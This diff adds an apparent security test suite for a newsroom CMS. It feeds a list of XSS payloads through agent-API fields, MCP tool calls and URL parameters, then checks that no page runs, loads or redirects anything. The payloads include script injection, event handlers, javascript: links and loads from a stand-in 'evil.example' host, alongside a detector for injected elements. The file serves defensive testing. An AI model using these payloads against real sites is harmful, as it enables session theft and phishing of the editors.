@@ -1,0 +1,231 @@
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import type { Page } from 'playwright-core';
+import { publish } from '../../src/article/publish/publish.ts';
+import { schedule } from '../../src/article/publish/schedule.ts';
+import { addComment } from '../../src/article/review/comment.ts';
+import { openPreview } from '../../src/article/review/preview-link.ts';
+import { requestChanges } from '../../src/article/review/review.ts';
+import { openBrowser, serveHouse, signInAs, watch } from '../support/browser.ts';
+import { bearer, draft, json, type Person, type TestHouse } from '../support/house.ts';
+import { everyPage, fillRest, NO_PAGES } from './newsroom-pages.ts';
+
+// Whatever a program may send, sent with the intent to run in an editor's session.
+
+const EVIL = 'https://evil.example';
+const ATTACKS = [
+  `<script>alert(1)</script>`,
+  `"><img src=x onerror=alert(1)>`,
+  `'><svg/onload=alert(1)>`,
+  `</title></textarea></style><script src=${EVIL}/x.js></script>`,
+  `<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>`,
+  `<link rel=stylesheet href=${EVIL}/x.css><style>@import "${EVIL}/y.css";</style>`,
+  `<meta http-equiv=refresh content="0;url=${EVIL}/"><base href="${EVIL}/">`,
+  `<form action=${EVIL}/><button>Publish revision 0</button></form>`,
+  `[a](javascript:alert(1)) ![b](${EVIL}/pixel.png) [c](data:text/html,<script>alert(1)</script>)`,
+  `[d](${EVIL}/"onmouseover="alert(1)) <a href="javascript:alert(1)" autofocus onfocus=alert(1)>e</a>`,
+  '`</code><script>alert(1)</script>`',
+  `{{constructor.constructor("alert(1)")()}} \${alert(1)} &lt;script&gt;alert(1)&lt;/script&gt;`,
+];
+const ALL = ATTACKS.join(' ');
+const MARK = 'MARK-OF-THE-TEST';
+
+/** All attacks that fit into `most` characters, behind a mark by which the page is seen to show the field. */
+function attack(field: string, most = 5000): string {
+  return `${MARK}-${field} ${ALL}`.slice(0, most);
+}
+
+function hostile(slug: string, headline: string): Record<string, unknown> {
+  const types = ['paragraph', 'heading', 'subheading', 'quote', 'list'];
+  const notes = ['claimsReview', 'editorialStatus', 'factCheckNotes', 'heroBrief', 'reportingGaps'];
+  const more = ['seoDescription', 'seoTitle', 'socialExcerpt', 'sourceNotes'];
+  return draft({
+    slug,
+    headline,
+    dek: attack('dek', 240),
+    bodyBlocks: types.flatMap((type) => [
+      { id: attack(`id-${type}`), type, text: attack(`text-${type}`) },
+      { id: type, type, text: ATTACKS.join('\n') },
+    ]),
+    sources: ATTACKS.map((one, n) => ({
+      title: attack(`title-${n}`, 240),
+      url: `${EVIL}/?${n}=${one.replace(/[\s\\]/g, '+')}`,
+      publisher: attack('publisher', 160),
+      note: attack('note', 500),
+    })),
+    correctionNote: attack('correction', 2000),
+    sponsorshipDisclosure: attack('sponsor', 1000),
+    editorialPacket: Object.fromEntries([...notes, ...more].map((name) => [name, attack(name)])),
+  });
+}
+
+/** Lets a program in that is hostile by its name and by whom it asks for, through the page itself. */
+async function letInHostile(house: TestHouse, page: Page): Promise<string> {
+  const base = house.config.publication.baseUrl;
+  const asked = await fetch(`${base}/api/agent/identity`, {
+    method: 'POST',
+    headers: { 'Content-Type': 'application/json', 'User-Agent': attack('program', 190) },
+    body: JSON.stringify({ type: 'service_auth', login_hint: attack('hint', 300) }),
+  });
+  const { claim_token, user_code } = await json(asked);
+  await page.goto(`${base}/agent/claim`);
+  await page.getByLabel('Code').fill(user_code);
+  await page.keyboard.press('Enter');
+  await page.getByText(`${MARK}-program`).first().waitFor();
+  await page.getByText(`${MARK}-hint`).first().waitFor();
+  await page.getByRole('button', { name: 'Approve' }).click();
+  await page.getByRole('heading', { name: 'The program is let in' }).waitFor();
+  await page.getByText(`${MARK}-program`).first().waitFor();
+  const grant_type = 'urn:example:agent-auth:grant-type:claim';
+  const body = new URLSearchParams({ grant_type, claim_token });
+  return (await json(await fetch(`${base}/api/agent/token`, { method: 'POST', body }))).access_token;
+}
+
+async function send(house: TestHouse, token: string, path: string, body: Record<string, unknown>): Promise<string> {
+  const response = await house.fetch(path, { method: 'POST', headers: bearer(token), body: JSON.stringify(body) });
+  const answer = await json(response);
+  assert.equal(response.status, 201, JSON.stringify(answer));
+  return answer.id;
+}
+
+/** Everything a page has that could run, load or lead elsewhere, and is none of ours. */
+function strange(): string[] {
+  const ours = {
+    SCRIPT: (src: string) => src.startsWith('/newsroom/script/'),
+    IMG: (src: string) => src === '' || /^\/(media|ads)\//.test(src),
+    IFRAME: (src: string) => /^\/newsroom\/articles\/[0-9a-f-]{36}\/revisions\/\d+\/preview$/.test(src),
+  } as Record<string, (src: string) => boolean>;
+  const never = 'object, embed, base, style, meta[http-equiv], frame, applet, math, foreignObject, animate, set';
+  const data = 'script#page[type="application/json"]'; // read by the editor's own script, run by nobody
+  const wrong = [...document.querySelectorAll(`:not(${data})`)].filter((element) => {
+    const given = (name: string) => element.getAttribute(name) ?? '';
+    if (element.matches(never) || !(ours[element.tagName]?.(given('src')) ?? true)) return true;
+    if (
+      element.tagName === 'svg' &&
+      !/^(drawing|square|settled-drawing|progress-bar|dates-drawing|preview)\b/.test(given('class'))
+    )
+      return true;
+    if (/^(link|image|use)$/i.test(element.tagName) && !/^\/[^/]/.test(given('href'))) return true;
+    if (/^\s*(javascript|data|vbscript):/i.test(given('href')) || /^(https?:)?\/\//i.test(given('action'))) return true;
+    return element.getAttributeNames().some((name) => /^on|^srcdoc$|^formaction$|^style$/i.test(name));
+  });
+  return wrong.map((element) => element.outerHTML.slice(0, 300));
+}
+
+/** Whatever else a program can put into the house: names of tools, keys of retries, what its client calls itself. */
+async function callHostile(house: TestHouse, token: string): Promise<void> {
+  const call = (body: unknown) =>
+    house.fetch('/api/mcp', { method: 'POST', headers: bearer(token), body: JSON.stringify(body) });
+  const clientInfo = { name: attack('client'), version: attack('version') };
+  const params = { protocolVersion: '2025-11-25', capabilities: {}, clientInfo };
+  await call({ jsonrpc: '2.0', id: 1, method: 'initialize', params });
+  const args = { id: attack('argument'), section: attack('section'), q: attack('q') };
+  for (const name of ['get_article', 'list_articles', attack('tool')])
+    await call({ jsonrpc: '2.0', id: attack('call'), method: 'tools/call', params: { name, arguments: args } });
+}
+
+test('nothing a program can fill in runs, asks or fetches on any page of the newsroom', {
+  timeout: 240_000,
+}, async (t) => {
+  const house = await serveHouse(t, { RATE_LIMITS: 'off', SMTP_URL: 'smtp://127.0.0.1:1' });
+  const base = house.config.publication.baseUrl;
+  const ruth = await house.person('chief', 'Ruth Okafor');
+  const context = await (await openBrowser(t)).newContext();
+  await signInAs(context, house, ruth);
+  const page = await context.newPage();
+  const seen = watch(page, house);
+  const token = await letInHostile(house, page);
+  const { first, ids, claimId } = await fileHostile(house, token, ruth);
+  await callHostile(house, token);
+  const rest = await fillRest(house, context, ruth);
+
+  const filled = { ...rest, articleIds: [first], revisedIds: [first], claimIds: [claimId] };
+  const paths = [
+    ...everyPage(filled),
+    ...ids.map((id) => `/newsroom/articles/${id}`),
+    `/newsroom/articles/${first}/revisions/1`,
+    `/newsroom/articles/${first}/revisions/1/preview`,
+    `/newsroom/journal?agent=${claimId}`,
+    `/newsroom?q=${encodeURIComponent(ALL.slice(0, 180))}`,
+    `/newsroom?desk=${encodeURIComponent(ALL)}&status=${encodeURIComponent(ALL)}`,
+    `/newsroom/pictures?q=${encodeURIComponent(ALL)}`,
+    `/newsroom/journal?act=${encodeURIComponent(ALL)}&who=${encodeURIComponent(ALL)}`,
+    `/newsroom/sign-in?next=${encodeURIComponent(ALL)}`,
+  ];
+  for (const path of paths) {
+    const status = (await page.goto(base + path))?.status() ?? 0;
+    if (path.endsWith('/edit')) await page.locator('.body').waitFor();
+    const shown = await page.content();
+    if (SHOWS.test(path)) assert.ok(shown.includes(MARK), `${path} shows what was sent`);
+    assert.deepEqual(await page.evaluate(strange), [], path);
+    for (const button of await page.getByRole('button', { name: /^Publish/ }).all()) {
+      const action = await button.evaluate((element) => (element as HTMLButtonElement).form?.getAttribute('action'));
+      assert.match(action ?? '', /^\/newsroom\/articles\/[0-9a-f-]{36}\/publish$/);
+    }
+    assert.equal(new URL(page.url()).origin, base, path);
+    // Of a page that is not there the browser itself says so.
+    const told = seen.splice(0).filter((line) => status !== 404 || !line.includes('a status of 404'));
+    assert.deepEqual(told, [], path);
+  }
+  for (const path of NO_PAGES.filter((one) => !one.includes(':'))) {
+    const { headers, body } = await house.fetch(path, { headers: { Cookie: ruth.cookie } });
+    assert.doesNotMatch(headers.get('content-type') ?? '', /html|xml|svg/, path);
+    assert.equal(headers.get('x-content-type-options'), 'nosniff', path);
+    await body?.cancel();
+  }
+  await publish(house.press, ruth, first, 1);
+  for (const path of ['/', '/software', '/software/hostile-moved', '/corrections']) {
+    await page.goto(base + path);
+    assert.ok((await page.content()).includes(MARK), `${path} shows what was published`);
+    assert.deepEqual(seen, [], path);
+  }
+});
+
+/** Pages that show what a program sent. */
+const SHOWS =
+  /^\/newsroom($|\/lines|\/articles\/|\/agents$|\/agents\/[0-9a-f-]{36}|\/journal$|\/calendar$|\/weeks$)|^\/agent\/claim\//;
+
+/** An article under each attack, and one that went through everything: published, revised, commented on, planned. */
+async function fileHostile(house: TestHouse, token: string, ruth: Person) {
+  const { press } = house;
+  const ids = [];
+  for (const [n, one] of ATTACKS.entries()) {
+    const sent = hostile(`hostile-${n}`, `${MARK} ${one}`.slice(0, 110));
+    const unknown = n === 1 && {
+      authorId: crypto.randomUUID(),
+      tagIds: [crypto.randomUUID()],
+      section: 'no-such-desk',
+    };
+    ids.push(await send(house, token, '/api/admin/articles', { ...sent, ...unknown }));
+  }
+  const [first = ''] = ids;
+  await publish(press, ruth, first, 0);
+  const again = { ...hostile('hostile-moved', attack('headline', 110)), section: 'software', baseRevision: 0 };
+  const correctionNote = attack('later', 1999);
+  await send(house, token, `/api/admin/articles/${first}/revisions`, { ...again, correctionNote });
+  const about = { revision: 1, blockId: attack('id-quote'), passage: `${MARK}-text-quote`, occurrence: 1 };
+  await addComment(press, ruth, first, { ...about, text: 'Who says so?' });
+  await requestChanges(press, ruth, first, 1, 'Once more.');
+  await openPreview(press, ruth, first, 1, { label: 'the superintendent', hours: 4 });
+  await schedule(press, ruth, first, 1, new Date(press.clock() + 3_600_000).toISOString());
+  const { id: claimId } = await press.db.read.selectFrom('claim').select('id').executeTakeFirstOrThrow();
+  return { first, ids, claimId };
+}
+
+test('a preview has no origin: it can neither run a script nor see the session', async (t) => {
+  const house = await serveHouse(t);
+  const base = house.config.publication.baseUrl;
+  const ruth = await house.person('chief', 'Ruth Okafor');
+  const token = await house.letIn(ruth);
+  const id = await send(house, token, '/api/admin/articles', draft());
+  const context = await (await openBrowser(t)).newContext();
+  await signInAs(context, house, ruth);
+  const page = await context.newPage();
+  await page.goto(`${base}/newsroom/articles/${id}`);
+  const frame = page.frames().find((one) => one.url().endsWith('/preview'));
+  assert.equal(await frame?.evaluate(() => self.origin), 'null');
+  await page.goto(`${base}/newsroom/articles/${id}/revisions/0/preview`);
+  assert.equal(await page.evaluate(() => self.origin), 'null', 'also where it is opened without a frame');
+  const framed = await page.evaluate(() => document.body.textContent?.includes('wrote down every stop'));
+  assert.equal(framed, true, 'and it is shown');
+});
